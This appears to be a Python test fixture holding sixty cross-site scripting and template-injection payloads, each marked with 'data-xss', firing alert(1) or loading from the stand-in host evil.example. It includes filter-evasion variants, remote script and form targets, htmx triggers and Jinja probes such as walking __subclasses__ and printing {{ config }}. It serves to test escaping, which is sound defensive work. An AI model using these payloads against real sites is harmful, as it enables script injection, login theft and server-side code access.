"""Sixty texts that run as a script, ask elsewhere or change the page where a text is taken for markup.

Each calls `alert`, or carries the mark `data-xss`, or asks `evil.example`: what a browser makes of it can be seen.
"""

from __future__ import annotations

MARK = "data-xss"

PAYLOADS = (
    # the ten of the normal run: one of each kind
    "<script data-xss>alert(1)</script>",
    "<img data-xss src=x onerror=alert(1)>",
    '"><svg data-xss onload=alert(1)>',
    "'><b data-xss onmouseover=alert(1)>x</b>",
    "</textarea><script data-xss>alert(1)</script>",
    "{{ 7 * 7 }}<i data-xss>${alert(1)}</i>",
    "<a data-xss href=javascript:alert(1)>klik</a>",
    '" autofocus onfocus=alert(1) data-xss="',
    "<iframe data-xss srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<link data-xss rel=stylesheet href=https://evil.example/x.css>",
    # elements that run or load by themselves
    "<SCRIPT data-xss SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script data-xss>ipt>alert(1)</script>",
    "<svg><script data-xss>alert(1)</script></svg>",
    "<svg data-xss><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a data-xss xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<math><mtext data-xss><img src=x onerror=alert(1)></mtext></math>",
    "<body data-xss onload=alert(1)><p data-xss>x",
    "<video data-xss><source onerror=alert(1)></video>",
    "<audio data-xss src=x onerror=alert(1)>",
    "<object data-xss data='javascript:alert(1)'></object>",
    "<embed data-xss src='javascript:alert(1)'>",
    "<iframe data-xss src='javascript:alert(1)'></iframe>",
    "<iframe data-xss src='https://evil.example/'></iframe>",
    "<form data-xss action='https://evil.example/'><button>x</button></form>",
    "<input data-xss autofocus onfocus=alert(1)>",
    "<select data-xss autofocus onfocus=alert(1)></select>",
    "<textarea data-xss autofocus onfocus=alert(1)></textarea>",
    "<keygen data-xss autofocus onfocus=alert(1)>",
    "<details data-xss open ontoggle=alert(1)>x</details>",
    "<marquee data-xss onstart=alert(1)>x</marquee>",
    "<meta data-xss http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base data-xss href='https://evil.example/'>",
    "<style data-xss>@import 'https://evil.example/x.css';</style>",
    "<div data-xss style='background:url(https://evil.example/x.png)'>x</div>",
    "<img data-xss src=https://evil.example/x.png>",
    "<picture data-xss><source srcset=https://evil.example/x.png><img></picture>",
    "<link data-xss rel=prefetch href=https://evil.example/>",
    "<script data-xss type=module>import('https://evil.example/x.js')</script>",
    # out of where a text stands
    "</title><script data-xss>alert(1)</script>",
    "</option></select><img data-xss src=x onerror=alert(1)>",
    "</style><script data-xss>alert(1)</script>",
    "--><img data-xss src=x onerror=alert(1)><!--",
    "]]><img data-xss src=x onerror=alert(1)>",
    "</template><img data-xss src=x onerror=alert(1)>",
    "</noscript><img data-xss src=x onerror=alert(1)>",
    '"/><img data-xss src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' data-xss='",
    '" style="animation:x" onanimationstart=alert(1) data-xss="',
    '"><script data-xss>alert(String.fromCharCode(49))</script>',
    "`><img data-xss src=x onerror=alert(1)>",
    # for htmx, templates and decoders
    '<div data-xss hx-get="https://evil.example/" hx-trigger="load">x</div>',
    '<div data-xss hx-on:load="alert(1)">x</div>',
    "{% for x in ().__class__.__base__.__subclasses__() %}<u data-xss>{{ x }}</u>{% endfor %}",
    "{{ config }}<u data-xss>{{ self._TemplateReference__context }}</u>",
    "<img data-xss src=x onerror=&#97;lert(1)>",
    "<img data-xss src=x onerror=\\u0061lert(1)>",
    "<img\u00a0data-xss\tsrc=x\nonerror=alert(1)><b data-xss>",
    "<IMG DATA-XSS SRC=X ONERROR=alert(1)>",
    "\u202e<img data-xss src=x onerror=alert(1)>\u202c",
    "\ufeff<p data-xss onclick=alert(1)>\u2028x</p>",
)
